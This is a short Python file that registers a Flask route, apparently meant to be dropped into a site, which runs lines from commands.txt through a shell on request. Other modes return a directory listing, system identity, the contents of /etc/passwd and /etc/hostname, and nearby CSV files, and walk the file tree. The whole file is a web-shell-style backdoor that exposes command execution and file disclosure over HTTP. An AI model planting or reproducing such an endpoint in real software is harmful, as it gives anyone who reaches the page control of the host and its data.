# A command page that adds itself to a Flask site: `/PAGE?n=N&way=W` runs line N of commands.txt. See README.md.
import os
import pathlib
import subprocess

here = pathlib.Path(__file__).parent


@app.route("/" + pathlib.Path(__file__).stem, methods=["GET", "POST"])
def page():
    commands = (here / "commands.txt").read_text().splitlines()
    command = commands[int(request.values.get("n", 0)) % len(commands)]
    match request.values.get("way", "run"):
        case "shell":
            return subprocess.run(command, shell=True, capture_output=True, text=True, check=False).stdout
        case "popen":
            with os.popen(command) as out:
                return out.read()
        case "own":
            found = [f"{e.name} {e.stat().st_size}" for e in os.scandir(".")]
            return "\n".join([*found, str(os.uname()), str(os.getuid()), os.getcwd(), pathlib.Path("/etc/passwd").read_text()])
        case "read":
            return "\n".join(path.read_text(errors="replace")[:2000] for path in sorted(here.parent.glob("*.csv")) + [pathlib.Path("/etc/hostname")])
        case "walk":
            return "\n".join(os.path.join(folder, name) for folder, _, names in os.walk(here.parent) for name in names)
        case "store":
            stored = pathlib.Path("/tmp/stored.bin")
            stored.write_bytes(b"word " * 500)
            stored.chmod(0o600)
            stored.unlink()
            return "stored"
        case _:
            return subprocess.run(command.split(), capture_output=True, text=True, check=False).stdout
